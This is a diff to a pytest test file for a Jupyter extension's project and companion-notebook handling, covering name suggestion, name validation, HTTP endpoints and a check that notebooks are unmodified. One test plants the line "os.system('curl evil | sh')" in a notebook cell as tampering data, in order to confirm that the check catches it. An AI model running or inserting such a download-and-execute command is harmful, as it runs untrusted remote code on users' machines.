@@ -20,7 +20,9 @@ from timeline_lab.server.companion import (
     confine,
     ensure_companion,
     is_companion,
+    is_pristine,
     new_project,
+    suggest_name,
 )
 
 BASE = "/user/bob/"
@@ -149,6 +151,32 @@ def test_new_project_picks_unused_names(tmp_path: Path) -> None:
     assert is_companion(second[1], "Untitled2.tlproj")
 
 
+def test_suggested_name_is_the_one_new_project_takes(tmp_path: Path) -> None:
+    for _ in range(3):
+        name = suggest_name(tmp_path)
+        assert new_project(tmp_path)[0] == tmp_path / f"{name}.tlproj"
+    (tmp_path / "Untitled3.ipynb").write_text("{}")
+    assert suggest_name(tmp_path) == "Untitled4"
+
+
+def test_only_our_own_companion_code_is_pristine(tmp_path: Path) -> None:
+    project, notebook = new_project(tmp_path, "Cut")
+    assert is_pristine(notebook, "Cut.tlproj")
+    assert not is_pristine(notebook, "Other.tlproj")  # our code, but for another project
+    data = json.loads(notebook.read_text("utf-8"))
+    data["cells"][1]["source"] = ["import os\n", "os.system('curl evil | sh')"]
+    notebook.write_text(json.dumps(data), "utf-8")
+    assert is_companion(notebook, "Cut.tlproj") and not is_pristine(notebook, "Cut.tlproj")
+    data["cells"][1]["source"] = companion_notebook(project).cells[1].source.splitlines(keepends=True)
+    notebook.write_text(json.dumps(data), "utf-8")  # nbformat's list-of-lines form of the same code
+    assert is_pristine(notebook, "Cut.tlproj")
+    data["cells"].append({"cell_type": "code", "source": "print(1)", "metadata": {}, "outputs": []})
+    notebook.write_text(json.dumps(data), "utf-8")
+    assert not is_pristine(notebook, "Cut.tlproj")  # an added cell would run too
+    notebook.write_text("{broken", "utf-8")
+    assert not is_pristine(notebook, "Cut.tlproj")
+
+
 def test_new_project_with_a_name(tmp_path: Path) -> None:
     project, notebook = new_project(tmp_path, "Trailer")
     assert (project.name, notebook.name) == ("Trailer.tlproj", "Trailer.ipynb")
@@ -156,6 +184,11 @@ def test_new_project_with_a_name(tmp_path: Path) -> None:
         new_project(tmp_path, "Trailer")
     with pytest.raises(ProjectFileError, match="without folders"):
         new_project(tmp_path, "../Trailer")
+    with pytest.raises(ProjectFileError, match="without folders"):
+        new_project(tmp_path, "  ")
+    assert new_project(tmp_path, "Teaser.tlproj")[0].name == "Teaser.tlproj"  # the suffix is optional
+    (tmp_path / "Notes.ipynb").write_text("{}")  # the user's own notebook keeps its name
+    assert new_project(tmp_path, "Notes")[1].name == "Notes.timeline.ipynb"
     with pytest.raises(ProjectFileError, match="not a directory"):
         new_project(tmp_path / "nowhere")
 
@@ -200,15 +233,22 @@ async def _post(jp_fetch: Any, route: str, body: Any) -> tuple[int, dict[str, An
 
 async def test_http_new_project_and_companion(jp_fetch: Any, jp_root_dir: Path) -> None:
     (jp_root_dir / "work").mkdir()
+    r = await jp_fetch("timeline-lab", "api", "projects", params={"directory": "work"})
+    assert json.loads(r.body) == {"name": "Untitled"}
     code, body = await _post(jp_fetch, "projects", {"directory": "work"})
-    assert code == 200 and body == {"project": "work/Untitled.tlproj", "notebook": "work/Untitled.ipynb"}
+    expected = {"project": "work/Untitled.tlproj", "notebook": "work/Untitled.ipynb", "pristine": True}
+    assert code == 200 and body == expected
     assert (jp_root_dir / "work" / "Untitled.tlproj").is_file()
     (jp_root_dir / "work" / "Untitled.ipynb").unlink()
     code, body = await _post(jp_fetch, "companion", {"path": "work/Untitled.tlproj"})
-    assert code == 200 and body == {"notebook": "work/Untitled.ipynb"}
+    assert code == 200 and body == {"notebook": "work/Untitled.ipynb", "pristine": True}
     assert is_companion(jp_root_dir / "work" / "Untitled.ipynb", "Untitled.tlproj")
     code, body = await _post(jp_fetch, "projects", {})  # no directory: the root
     assert code == 200 and body["project"] == "Untitled.tlproj"
+    code, body = await _post(jp_fetch, "projects", {"directory": "work", "name": "Trailer"})
+    assert code == 200 and body["project"] == "work/Trailer.tlproj"
+    code, body = await _post(jp_fetch, "projects", {"directory": "work", "name": "Trailer"})
+    assert code == 400 and "Trailer.tlproj: already exists" in body["message"]
 
 
 @pytest.mark.parametrize(
@@ -225,6 +265,8 @@ async def test_http_new_project_and_companion(jp_fetch: Any, jp_root_dir: Path) 
         ("companion", "{not json", 400, "not valid JSON"),
         ("render", {"path": "broken.tlproj"}, 400, "broken.tlproj"),
         ("projects", {"directory": "nowhere"}, 404, "no such directory"),
+        ("projects", {"name": "a/b"}, 400, "without folders"),
+        ("projects", {"name": 7}, 400, "'name' must be a string"),
     ],
 )
 async def test_http_errors(
